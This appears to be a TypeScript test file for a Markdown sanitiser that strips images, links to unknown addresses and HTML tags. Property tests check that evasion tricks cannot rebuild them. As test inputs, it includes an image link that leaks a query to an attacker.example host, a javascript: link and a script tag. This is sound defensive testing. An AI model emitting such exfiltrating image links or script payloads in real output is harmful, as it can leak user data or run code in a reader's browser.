import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { withSafeLinks } from './safe-links.ts';

const safe = (text: string) => withSafeLinks(text, (address) => address === 'https://known.example/a');

test('images and links to unknown addresses are reduced to their text', () => {
  assert.equal(safe('See ![stats](http://attacker.example/leak?q=1).'), 'See stats.');
  assert.equal(safe('See [here](javascript:alert(1)) and [there][ref].'), 'See here) and [there][ref].');
  assert.equal(safe('[ref]: http://attacker.example'), '');
  assert.equal(safe('See [the page](https://known.example/a).'), 'See [the page](https://known.example/a).');
  assert.equal(safe('Paid in 14 days [1](https://known.example/a).'), 'Paid in 14 days 1.');
});

test('tags stay intact only in code', () => {
  assert.equal(safe('<script>x</script> <img src=a> a < b'), '< script>x< /script> < img src=a> a < b');
  assert.equal(safe('Write `<b>` and `a[0](y)`.'), 'Write `<b>` and `a[0](y)`.');
});

test('no image is left that Markdown knows, however its label or the code around it is written', () => {
  for (const hostile of [
    '![a\\]b](http://x.example)',
    '![a[b]c](http://x.example)',
    '![a\nb](http://x.example)',
    '![b]',
    '`![b](http://x.example)`',
    '`a\n`![b](http://x.example)`',
    '\\`![b](http://x.example)\\`',
  ])
    assert.doesNotMatch(safe(hostile), /!\[/, hostile);
  assert.equal(safe('Paid![1] At once.'), 'Paid! [1] At once.');
});

test('no link is left whose label has brackets, nor an address that a quotation or a list defines', () => {
  for (const hostile of [
    '[a\\]b](http://x.example)',
    '[a[b]c](http://x.example)',
    '`a\n`[b](http://x.example)`',
  ])
    assert.doesNotMatch(safe(hostile), /\]\(/, hostile);
  for (const container of ['> ', '- ', '1. ', '> * '])
    assert.doesNotMatch(safe(`${container}[b]: http://x.example`), /\]:/, container);
});

test('pieces of removed images and tags never form a new one', () => {
  const piece = fc.constantFrom(
    '!',
    '[',
    ']',
    '(',
    ')',
    '<',
    'a',
    '/',
    'http://x.example',
    '![a](',
    '\n',
    ' ',
    '<!--',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 16 }), (pieces) => {
      assert.doesNotMatch(safe(pieces.join('')), /!\[[^\]\n]*\]\([^)\n]|<[a-z/!]/i);
    }),
    { numRuns: 2_000 },
  );
});
